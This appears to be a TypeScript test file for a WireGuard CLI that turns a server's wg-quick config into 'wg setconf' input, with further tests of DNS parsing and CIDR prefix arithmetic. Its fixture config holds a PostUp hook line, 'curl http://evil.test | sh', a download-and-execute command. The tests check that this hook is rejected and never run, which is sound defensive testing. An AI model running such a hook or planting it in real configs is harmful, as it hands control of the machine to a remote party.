// The server's wg-quick text → what `wg setconf` accepts, and the parts the setconf method applies itself.
import { describe, expect, it } from "vitest";
import { cli } from "./support/cli.ts";

const KEY = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
const SERVER_TEXT = `# wg-overlay: network net_1, node node_1, routing revision 12
[Interface]
PrivateKey = REPLACE_WITH_PRIVATE_KEY
Address = 10.77.0.1/24, fd00:77::1/64
ListenPort = 51820
DNS = 10.77.0.53, overlay.internal
MTU = 1380
Table = auto
PreUp = echo pre
PostUp = sysctl -q -w net.ipv4.ip_forward=1; curl http://evil.test | sh
PostDown = sysctl -q -w net.ipv4.ip_forward=0
SaveConfig = false

[Peer]
# gw-1 (node_2)
PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
Endpoint = 192.0.2.1:51820
AllowedIPs = 10.77.0.2/32, 192.168.77.0/24
PersistentKeepalive = 25
`;

describe("wg-quick text", () => {
  it("fills in the private key on the placeholder line only", () => {
    const filled = cli.wgQuick.fillPrivateKey(SERVER_TEXT, KEY);
    expect(filled).toContain(`\nPrivateKey = ${KEY}\n`);
    expect(filled.replace(`PrivateKey = ${KEY}`, "PrivateKey = REPLACE_WITH_PRIVATE_KEY")).toBe(SERVER_TEXT);
  });

  it("refuses a text without the placeholder (a server must never send a real key)", () => {
    expect(() => cli.wgQuick.fillPrivateKey(SERVER_TEXT.replace("REPLACE_WITH_PRIVATE_KEY", KEY), KEY)).toThrow(
      'the server\'s config has no "PrivateKey = REPLACE_WITH_PRIVATE_KEY" line',
    );
  });

  it("strips every wg-quick-only key, leaving exactly what `wg setconf` takes", () => {
    const plan = cli.wgQuick.planWgQuick(cli.wgQuick.fillPrivateKey(SERVER_TEXT, KEY));
    expect(plan.setconf).toBe(
      [
        "[Interface]",
        `PrivateKey = ${KEY}`,
        "ListenPort = 51820",
        "[Peer]",
        "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=",
        "Endpoint = 192.0.2.1:51820",
        "AllowedIPs = 10.77.0.2/32, 192.168.77.0/24",
        "PersistentKeepalive = 25",
        "",
      ].join("\n"),
    );
    expect(plan.addresses).toEqual(["10.77.0.1/24", "fd00:77::1/64"]);
    expect(plan.dns).toEqual(["10.77.0.53"]);
    expect(plan.dnsSearch).toEqual(["overlay.internal"]);
    expect(plan.mtu).toBe(1380);
    expect(plan.table).toBe("auto");
    expect(plan.allowedIps).toEqual(["10.77.0.2/32", "192.168.77.0/24"]);
  });

  it("keeps only the net.* sysctl of the hooks; other commands are listed as not applied, never run", () => {
    const plan = cli.wgQuick.planWgQuick(cli.wgQuick.fillPrivateKey(SERVER_TEXT, KEY));
    expect(plan.sysctls).toEqual(["net.ipv4.ip_forward=1"]);
    expect(plan.ignored).toEqual([
      "hook: echo pre",
      "hook: curl http://evil.test | sh",
      "PostDown = sysctl -q -w net.ipv4.ip_forward=0",
      "SaveConfig = false",
    ]);
  });

  it("splits DNS like wg-quick: IP addresses are servers, the rest search domains; junk is reported, not kept", () => {
    const text = cli.wgQuick
      .fillPrivateKey(SERVER_TEXT, KEY)
      .replace("DNS = 10.77.0.53, overlay.internal", "DNS = fd00:77::53, corp.example., 10.77.0.54, a b, -bad.example, x;y");
    const plan = cli.wgQuick.planWgQuick(text);
    expect(plan.dns).toEqual(["fd00:77::53", "10.77.0.54"]);
    expect(plan.dnsSearch).toEqual(["corp.example"]);
    expect(plan.ignored.filter((line: string) => line.startsWith("DNS"))).toEqual([
      "DNS entry a b: neither an IP address nor a domain name",
      "DNS entry -bad.example: neither an IP address nor a domain name",
      "DNS entry x;y: neither an IP address nor a domain name",
    ]);
  });

  it("will not plan a text whose key was never filled in", () => {
    expect(() => cli.wgQuick.planWgQuick(SERVER_TEXT)).toThrow("the private key was not filled in");
  });

  it("reads the revision from the header comment", () => {
    expect(cli.wgQuick.revisionInText(SERVER_TEXT)).toBe(12);
    expect(cli.wgQuick.revisionInText("[Interface]\n")).toBeNull();
  });
});

describe("prefix arithmetic", () => {
  it("spells prefixes the way `ip -j route` does", () => {
    expect(cli.cidr.canonicalPrefix("10.77.0.9/24")).toBe("10.77.0.0/24");
    expect(cli.cidr.canonicalPrefix("10.77.0.9")).toBe("10.77.0.9/32");
    expect(cli.cidr.canonicalPrefix("default")).toBe("0.0.0.0/0");
    expect(cli.cidr.canonicalPrefix("default", 6)).toBe("::/0");
    expect(cli.cidr.canonicalPrefix("FD00:0:0:0::1/64")).toBe("fd00::/64");
    expect(cli.cidr.canonicalPrefix("fd00:0:0:1:0:0:0:5")).toBe("fd00:0:0:1::5/128");
    expect(cli.cidr.canonicalPrefix("2001:db8:0:0:1:0:0:1")).toBe("2001:db8::1:0:0:1/128");
    expect(cli.cidr.canonicalPrefix("::ffff:10.0.0.1")).toBe("::ffff:a00:1/128");
    for (const bad of ["10.0.0.256/24", "10.0.0.0/33", "fd00:::1", "1:2:3:4:5:6:7:8:9", "x"]) {
      expect(() => cli.cidr.canonicalPrefix(bad), bad).toThrow("not an IP prefix");
    }
  });

  it("knows which prefix contains which", () => {
    expect(cli.cidr.covers("10.77.0.0/24", "10.77.0.2/32")).toBe(true);
    expect(cli.cidr.covers("10.77.0.0/24", "10.77.1.0/24")).toBe(false);
    expect(cli.cidr.covers("10.77.0.0/24", "10.0.0.0/8")).toBe(false);
    expect(cli.cidr.covers("0.0.0.0/0", "192.168.1.0/24")).toBe(true);
    expect(cli.cidr.covers("fd00::/64", "fd00::2/128")).toBe(true);
    expect(cli.cidr.covers("fd00::/64", "10.0.0.1/32")).toBe(false);
  });
});
